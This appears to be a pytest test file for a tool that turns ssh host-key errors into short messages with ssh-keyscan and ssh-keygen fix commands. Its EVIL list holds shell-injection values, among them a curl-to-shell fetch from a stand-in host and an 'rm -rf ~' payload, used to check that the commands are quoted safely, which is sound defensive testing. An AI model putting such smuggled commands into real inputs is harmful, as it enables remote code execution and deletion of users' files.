# SPDX-License-Identifier: Apache-2.0
"""A host whose key ssh does not trust: what to type."""

import shlex

import pytest

from rekindle.results.host_keys import describe_host_key

SSH = "Failed to connect to the host via ssh: "
STRICT = "and you have requested strict checking.\r\nHost key verification failed."
KNOWN = ">> ~/.ssh/known_hosts"


@pytest.mark.parametrize(
    ("message", "left"),
    [
        (
            f"No ED25519 host key is known for 192.0.2.7 {STRICT}",
            f"ssh does not know the host key of 192.0.2.7. Fix: ssh-keyscan -H 192.0.2.7 {KNOWN}, "
            "and compare it with the lessor's.",
        ),
        (
            "Host key verification failed.",
            f"ssh does not know the host key of 192.0.2.7. Fix: ssh-keyscan -H 192.0.2.7 {KNOWN}, "
            "and compare it with the lessor's.",
        ),
        (
            "@@@@\r\n@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\n@@@@\r\n"
            f"Host key for [192.0.2.7]:2222 has changed {STRICT}",
            "The host key of 192.0.2.7 is not the one that ssh knows. Fix: if it was rebuilt: "
            f"ssh-keygen -R 192.0.2.7 && ssh-keyscan -H 192.0.2.7 {KNOWN}; "
            "else do not trust it.",
        ),
    ],
)
def test_ssh_s_message_is_one_sentence_and_what_to_type(message, left):
    assert str(describe_host_key(f"{SSH}{message}", "192.0.2.7")) == left


def test_a_port_of_its_own_is_in_both_commands():
    changed = f"Host key for [192.0.2.7]:2222 has changed {STRICT}"
    assert (
        f"ssh-keygen -R '[192.0.2.7]:2222' && ssh-keyscan -H -p 2222 192.0.2.7 {KNOWN}"
        in describe_host_key(changed, "192.0.2.7", 2222).fix
    )


def test_another_failure_is_none_of_a_key():
    refused = "ssh: connect to host 192.0.2.7 port 22: Connection refused"
    assert describe_host_key(f"{SSH}{refused}", "192.0.2.7") is None


EVIL = ["gpu-1;curl${IFS}evil.example|sh;:", "other.host", "$(id)", "'; rm -rf ~; '", "`id`"]


@pytest.mark.parametrize("words", EVIL)
@pytest.mark.parametrize("said", ["No ED25519 host key is known for {} {}", "Host key for {} has changed {}"])
def test_nothing_that_a_host_says_is_in_a_command(words, said):
    complaint = describe_host_key(f"{SSH}{said.format(words, STRICT)}", "192.0.2.7")
    assert words not in str(complaint)
    assert "ssh-keyscan -H 192.0.2.7 >>" in complaint.fix


@pytest.mark.parametrize("address", EVIL)
def test_an_address_is_one_word_of_the_command(address):
    complaint = describe_host_key(f"Host key for x has changed {STRICT}", address, 2222)
    command = complaint.fix.removeprefix("if it was rebuilt: ").partition("; else")[0]
    if "; else" not in address:
        assert shlex.split(command)[2] == f"[{address}]:2222"
    assert shlex.quote(address) in complaint.fix
